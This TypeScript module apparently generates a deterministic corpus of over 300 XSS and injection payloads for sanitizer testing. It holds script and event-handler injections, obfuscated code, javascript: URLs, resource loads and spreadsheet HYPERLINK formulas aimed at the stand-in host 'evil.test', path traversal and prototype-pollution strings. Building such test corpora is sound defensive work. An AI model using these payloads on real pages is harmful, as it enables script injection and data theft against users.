/** Stands in every payload where only a program would see it, so that it may be in no text. */
export const CANARY = "CANARYWORD";

/** No address of this host is ever to be asked for. */
export const EVIL_HOST = "evil.test";

const CODE = `globalThis.${CANARY}=1`;
const PAGE = `<script>${CODE}</script>`;

const HANDLERS = [
  "onload",
  "onerror",
  "onclick",
  "onmouseover",
  "onfocus",
  "onanimationstart",
  "ontoggle",
  "onbegin",
  "onpointerenter",
  "onwheel",
];

const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "iframe",
  "input autofocus",
  "details open",
  "video src=x",
  "audio src=x",
  "object data=x",
  "marquee",
  "a href=x",
  "math",
  "select autofocus",
  "form",
  "svg><animate",
  "x-y",
];

/** The same program, written so that who looks for words does not find it. */
const WRITTEN: ((code: string) => string)[] = [
  (code) => [...code].map((sign) => `&#${sign.codePointAt(0)};`).join(""),
  (code) => [...code].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)}`).join(";") + ";",
  (code) => [...code].map((sign) => `&#${String(sign.codePointAt(0)).padStart(7, "0")};`).join(""),
  (code) => code.replace("g", "\\u0067"),
  (code) => `eval(atob('${btoa(code)}'))`,
  (code) => `setTimeout(\`${code}\`)`,
  (code) => `[].constructor.constructor('${code}')()`,
  (code) => code.replace("=", "&equals;").replace(".", "&period;"),
];

const SELF_STARTING: ((code: string) => string)[] = [
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img/src=x/onerror="${code}">`,
  (code) => `<IMG SRC=x ONERROR="${code}">`,
  (code) => `<img src=x\nonerror\n=\n"${code}">`,
  (code) => `<img src=x onerror="${code}"`,
  (code) => `<svg/onload="${code}">`,
  (code) => `<style onload="${code}"></style>`,
  (code) => `<body/onpageshow="${code}">`,
];

const ADDRESSES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `&#106;avascript:${CODE}`,
  `java\tscript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript://%0a${CODE}`,
  `data:text/html,${PAGE}`,
  `data:text/html;base64,${btoa(PAGE)}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CODE}'/>`,
  `vbscript:${CODE}`,
  `file:///etc/passwd#${CANARY}`,
  `//${EVIL_HOST}/${CANARY}`,
  `https://${EVIL_HOST}/${CANARY}.js`,
];

const LINKS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">word</a>`,
  (address) => `<a href="#" ping="${address}">word</a>`,
  (address) => `<a xlink:href="${address}">word</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button form=f formaction="${address}">x</button>`,
  (address) => `<link rel="stylesheet" href="${address}">`,
  (address) =>
    `<link rel="prefetch" href="${address}"><link rel="preload" as="script" href="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<picture><source srcset="${address}"><img></picture>`,
  (address) =>
    `<video poster="${address}"><source src="${address}"><track src="${address}"></video>`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<svg><use href="${address}"/><image href="${address}"/></svg>`,
  (address) => `<math><mi xlink:href="${address}">x</mi></math>`,
  (address) => `<p style="background:url('${address.replaceAll("'", "%27")}')">word</p>`,
];

const WHOLE = [
  PAGE,
  `<SCRIPT>${CODE}</SCRIPT>`,
  `<script >${CODE}</script >`,
  `<script/x>${CODE}</script>`,
  `<script type="module">${CODE}</script>`,
  `<script type="importmap">{"imports":{"x":"https://${EVIL_HOST}/${CANARY}"}}</script>`,
  `<p title='">${PAGE}'></p>`,
  `<<script>${CODE}//<</script>`,
  `<style>@import 'https://${EVIL_HOST}/${CANARY}';</style>`,
  `<style>p{background:url(https://${EVIL_HOST}/${CANARY})}</style>`,
  `<style>@font-face{font-family:x;src:url(https://${EVIL_HOST}/${CANARY})}*{font-family:x}</style>`,
  `<style>@\\69mport url(//${EVIL_HOST}/${CANARY});</style>`,
  `<div style="background:url(javascript:${CODE})"></div>`,
  `<div style="width:expression(${CODE})"></div>`,
  `<div style="-moz-binding:url(//${EVIL_HOST}/${CANARY})"></div>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><script href="data:,${CODE}"/></svg>`,
  `<svg><style><img src=x onerror="${CODE}"></style></svg>`,
  `<svg><foreignObject><iframe srcdoc="${PAGE}"></iframe></foreignObject></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CODE}"/><text y=20>word</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${CODE}"/></svg>`,
  `<template>${PAGE}</template>`,
  `<template shadowrootmode=open>${PAGE}</template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
  `<!--<img src="--><img src=x onerror=${CODE}>`,
  `<!-- ${PAGE} -->`,
  `<!--[if IE]>${PAGE}<![endif]-->`,
  `<?xml-stylesheet href="javascript:${CODE}"?>`,
  `<![CDATA[${PAGE}]]>`,
  `<iframe srcdoc="${PAGE}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${CODE}&lt;/script&gt;"></iframe>`,
  `<textarea>${PAGE}</textarea>`,
  `<textarea></textarea><img src=x onerror=${CODE}></textarea>`,
  `<title></title><img src=x onerror=${CODE}></title>`,
  `<select><option>${PAGE}</option></select>`,
  `<math><mtext><table><mglyph><style><img title="</style><img src=x onerror=${CODE}>">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${CODE}"></annotation-xml></math>`,
  `<object><param name=movie value="javascript:${CODE}"></object>`,
  `<applet code="https://${EVIL_HOST}/${CANARY}"></applet>`,
  `<frameset onload="${CODE}"><frame src="javascript:${CODE}"></frameset>`,
  `<xmp>${PAGE}</xmp>`,
  `<plaintext>${PAGE}`,
  `<isindex action="javascript:${CODE}" type=image>`,
  `<div id=app name=body onfocus="${CODE}" tabindex=1 autofocus></div>`,
  `<x contenteditable onfocus="${CODE}" autofocus>word</x>`,
  `<dialog open onclose="${CODE}"><form method=dialog><button>x</button></form></dialog>`,
  `<button popovertarget=p>x</button><p popover id=p onbeforetoggle="${CODE}">word</p>`,
];

function markup(): string[] {
  return [
    ...WHOLE,
    ...ELEMENTS.flatMap((element) =>
      HANDLERS.map((handler) => `<${element} ${handler}="${CODE}"></${element.split(" ", 1)[0]}>`),
    ),
    ...WRITTEN.flatMap((write) => SELF_STARTING.map((start) => start(write(CODE)))),
    ...LINKS.flatMap((link) => ADDRESSES.map((address) => link(address.replaceAll('"', "&quot;")))),
  ];
}

/** Words that are no markup by themselves and become something else where they are put together with other words. */
function tricks(): string[] {
  const formulas = ["=", "+", "-", "@", "\t=", "\uff1d"].map(
    (sign) => `${sign}HYPERLINK("https://${EVIL_HOST}/${CANARY}","word")`,
  );
  const templates = [`{{${CODE}}}`, `\${${CODE}}`, `<%= ${CODE} %>`, `#{${CODE}}`, `[[${CODE}]]`];
  const breakers = ['">', "'>", "]]>", "--></style>", "</title>", "</textarea>", "</svg>", "\n\n"];
  const unseen = ["\u202e", "\u2066", "\u200b", "\ufeff", "\0", "\u001b[2J", "\u0008", "\u2028"];
  return [
    ...formulas,
    ...templates,
    ...breakers.map((breaker) => `${breaker}${PAGE}`),
    ...unseen.map((sign) => `word${sign}drow <${sign}script>${CODE}</script>`),
    ...ADDRESSES,
    `&lt;script&gt;${CODE}&lt;/script&gt;`,
    `&amp;lt;script&amp;gt;${CODE}`,
    `%3Cscript%3E${CODE}%3C/script%3E`,
    `\\u003cscript\\u003e${CODE}`,
    `+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
    `\uff1cscript\uff1e${CODE}\uff1c/script\uff1e`,
    `[word](javascript:${CODE})`,
    `![word](https://${EVIL_HOST}/${CANARY}.png)`,
    `<javascript:${CODE}>`,
    `[word]: javascript:${CODE}`,
    `__proto__`,
    `constructor.prototype.${CANARY}`,
    `../../../etc/${CANARY}`,
    `C:\\Windows\\${CANARY}`,
  ];
}

/** Ways to make a page run something or fetch something, more than 300, each of them HTML. */
export const MARKUP_PAYLOADS: readonly string[] = markup();

/** Everything that is tried everywhere, the same in every run. */
export function payloads(): string[] {
  return [...markup(), ...tricks()];
}
